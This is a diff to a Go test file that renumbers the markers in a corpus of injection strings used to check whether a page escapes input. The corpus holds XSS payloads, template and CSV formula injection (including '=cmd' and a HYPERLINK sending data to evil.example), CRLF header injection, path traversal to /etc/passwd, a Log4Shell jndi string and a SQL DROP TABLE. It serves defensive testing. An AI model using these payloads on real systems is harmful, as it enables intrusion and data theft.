@@ -14,19 +14,19 @@ import (
 // corpus are texts that would be something else than text somewhere. %d becomes the
 // number of the text, so that a page can be asked which of them it shows.
 var corpus = []string{
-	`<script>hit()</script>zq%dz`, `"><script>hit()</script>zq%dz`, `'><svg/onload=hit()>zq%dz`, `<img src=x onerror=hit()>zq%dz`, `"onmouseover="hit()" x="zq%dz`,
-	`' autofocus onfocus='hit()' x='zq%dz`, "`onclick=hit()`zq%dz", `javascript:hit()//zq%dz`, `data:text/html,<script>hit()</script>zq%dz`, `</title><script>hit()</script>zq%dz`,
-	`</textarea><script>hit()</script>zq%dz`, `</style><script>hit()</script>zq%dz`, `</script><script>hit()</script>zq%dz`, `--><script>hit()</script>zq%dz`, `]]><script>hit()</script>zq%dz`,
-	`<svg><script>hit()</script></svg>zq%dz`, `<svg><animate onbegin=hit() attributeName=x></svg>zq%dz`, `<math><mtext></p><style><img src=x onerror=hit()></style>zq%dz`, `<noscript><p title="</noscript><img src=x onerror=hit()>">zq%dz`,
-	`<svg></p><style><a id="</style><img src=1 onerror=hit()>">zq%dz`, `<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit()>zq%dz`, `<iframe srcdoc="<script>parent.hit()</script>"></iframe>zq%dz`,
-	`<object data="data:text/html,<script>hit()</script>"></object>zq%dz`, `<embed src="data:image/svg+xml,<svg onload=hit()>">zq%dz`, `<base href="//evil.example/">zq%dz`, `<meta http-equiv=refresh content="0;url=//evil.example">zq%dz`,
-	`<link rel=stylesheet href="//evil.example/x.css">zq%dz`, `<a href="javascript:hit()">zq%dz</a>`, `<a href="//evil.example">zq%dz</a>`, `<form action="//evil.example"><input name=form_token><button>zq%dz</button></form>`,
-	`<div style="background:url(javascript:hit())">zq%dz</div>`, `<input autofocus onfocus=hit()>zq%dz`, `<details open ontoggle=hit()>zq%dz`, `<video><source onerror=hit()></video>zq%dz`, `<template><script>hit()</script></template>zq%dz`,
-	`{{hit()}}zq%dz`, `${hit()}zq%dz`, `{{.Reveal}}{{define "x"}}zq%dz`, `<%%= hit() %%>zq%dz`, `#{hit()}zq%dz`, `[[hit()]]zq%dz`, `&lt;script&gt;hit()&lt;/script&gt;zq%dz`, `&#60;script&#62;hit()&#60;/script&#62;zq%dz`,
-	`&amp;lt;b&amp;gt;zq%dz`, `\u003cscript\u003ehit()\u003c/script\u003ezq%dz`, `%%3Cscript%%3Ehit()%%3C/script%%3Ezq%dz`, "\"},\"x\":{\"y\":\"zq%dz", `\"}];hit();//zq%dz`, `'-hit()-'zq%dz`, `";hit();//zq%dz`,
-	`=cmd|' /C calc'!A0zq%dz`, `+1+1zq%dz`, `-2+3zq%dz`, `@SUM(1+1)zq%dz`, "\t=1+1zq%dz", `=HYPERLINK("https://evil.example?x="&A1,"zq%dz")`, "a\r\nSet-Cookie: x=1zq%dz", "a\r\n\r\n<script>hit()</script>zq%dz", `"a","b";zq%dz`,
-	"\u202Egpj.exe zq%dz", "\u2066\u2067zq%dz\u2069", "\u200B\u200Dzq%dz\uFEFF", "\uFF1Cscript\uFF1Ehit()\uFF1C/script\uFF1Ezq%dz", "\u2028hit()\u2029zq%dz", "Z\u0351\u036B\u0343\u036A\u0302\u036Bzq%dz", "\uFFFDzq%dz", "null zq%dz", "undefined zq%dz", "NaN zq%dz",
-	"<\u0131mg src=x onerror=hit()>zq%dz", "<ſcript>hit()</ſcript>zq%dz", "%%00<script>hit()</script>zq%dz", "\U0001F469\u200D\U0001F469\u200D\U0001F467zq%dz", "ﷺﷺﷺzq%dz", "../../../../etc/passwdzq%dz", "${jndi:ldap://evil.example/x}zq%dz", "'; DROP TABLE chart_row;--zq%dz",
+	`<script>hit()</script>zq.%d.z`, `"><script>hit()</script>zq.%d.z`, `'><svg/onload=hit()>zq.%d.z`, `<img src=x onerror=hit()>zq.%d.z`, `"onmouseover="hit()" x="zq.%d.z`,
+	`' autofocus onfocus='hit()' x='zq.%d.z`, "`onclick=hit()`zq.%d.z", `javascript:hit()//zq.%d.z`, `data:text/html,<script>hit()</script>zq.%d.z`, `</title><script>hit()</script>zq.%d.z`,
+	`</textarea><script>hit()</script>zq.%d.z`, `</style><script>hit()</script>zq.%d.z`, `</script><script>hit()</script>zq.%d.z`, `--><script>hit()</script>zq.%d.z`, `]]><script>hit()</script>zq.%d.z`,
+	`<svg><script>hit()</script></svg>zq.%d.z`, `<svg><animate onbegin=hit() attributeName=x></svg>zq.%d.z`, `<math><mtext></p><style><img src=x onerror=hit()></style>zq.%d.z`, `<noscript><p title="</noscript><img src=x onerror=hit()>">zq.%d.z`,
+	`<svg></p><style><a id="</style><img src=1 onerror=hit()>">zq.%d.z`, `<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit()>zq.%d.z`, `<iframe srcdoc="<script>parent.hit()</script>"></iframe>zq.%d.z`,
+	`<object data="data:text/html,<script>hit()</script>"></object>zq.%d.z`, `<embed src="data:image/svg+xml,<svg onload=hit()>">zq.%d.z`, `<base href="//evil.example/">zq.%d.z`, `<meta http-equiv=refresh content="0;url=//evil.example">zq.%d.z`,
+	`<link rel=stylesheet href="//evil.example/x.css">zq.%d.z`, `<a href="javascript:hit()">zq.%d.z</a>`, `<a href="//evil.example">zq.%d.z</a>`, `<form action="//evil.example"><input name=form_token><button>zq.%d.z</button></form>`,
+	`<div style="background:url(javascript:hit())">zq.%d.z</div>`, `<input autofocus onfocus=hit()>zq.%d.z`, `<details open ontoggle=hit()>zq.%d.z`, `<video><source onerror=hit()></video>zq.%d.z`, `<template><script>hit()</script></template>zq.%d.z`,
+	`{{hit()}}zq.%d.z`, `${hit()}zq.%d.z`, `{{.Reveal}}{{define "x"}}zq.%d.z`, `<%%= hit() %%>zq.%d.z`, `#{hit()}zq.%d.z`, `[[hit()]]zq.%d.z`, `&lt;script&gt;hit()&lt;/script&gt;zq.%d.z`, `&#60;script&#62;hit()&#60;/script&#62;zq.%d.z`,
+	`&amp;lt;b&amp;gt;zq.%d.z`, `\u003cscript\u003ehit()\u003c/script\u003ezq.%d.z`, `%%3Cscript%%3Ehit()%%3C/script%%3Ezq.%d.z`, "\"},\"x\":{\"y\":\"zq.%d.z", `\"}];hit();//zq.%d.z`, `'-hit()-'zq.%d.z`, `";hit();//zq.%d.z`,
+	`=cmd|' /C calc'!A0zq.%d.z`, `+1+1zq.%d.z`, `-2+3zq.%d.z`, `@SUM(1+1)zq.%d.z`, "\t=1+1zq.%d.z", `=HYPERLINK("https://evil.example?x="&A1,"zq.%d.z")`, "a\r\nSet-Cookie: x=1zq.%d.z", "a\r\n\r\n<script>hit()</script>zq.%d.z", `"a","b";zq.%d.z`,
+	"\u202Egpj.exe zq.%d.z", "\u2066\u2067zq.%d.z\u2069", "\u200B\u200Dzq.%d.z\uFEFF", "\uFF1Cscript\uFF1Ehit()\uFF1C/script\uFF1Ezq.%d.z", "\u2028hit()\u2029zq.%d.z", "Z\u0351\u036B\u0343\u036A\u0302\u036Bzq.%d.z", "\uFFFDzq.%d.z", "null zq.%d.z", "undefined zq.%d.z", "NaN zq.%d.z",
+	"<\u0131mg src=x onerror=hit()>zq.%d.z", "<ſcript>hit()</ſcript>zq.%d.z", "%%00<script>hit()</script>zq.%d.z", "\U0001F469\u200D\U0001F469\u200D\U0001F467zq.%d.z", "ﷺﷺﷺzq.%d.z", "../../../../etc/passwdzq.%d.z", "${jndi:ldap://evil.example/x}zq.%d.z", "'; DROP TABLE chart_row;--zq.%d.z",
 }
 
 // text is one of the corpus, with its number in it.
@@ -36,7 +36,7 @@ func text(i int) string {
 }
 
 // long is a word that no line breaks.
-var long = strings.Repeat("Wörterwörter", 40) + "zq900z"
+var long = strings.Repeat("Wörterwörter", 40) + "zq.900.z"
 
 var (
 	keptKeys  = []string{"resourceType", "id", "reference", "system", "code", "status", "gender", "url", "use", "div", "contentType", "language", "currency", "intent", "kind", "mode", "comparator", "versionId", "uid"}
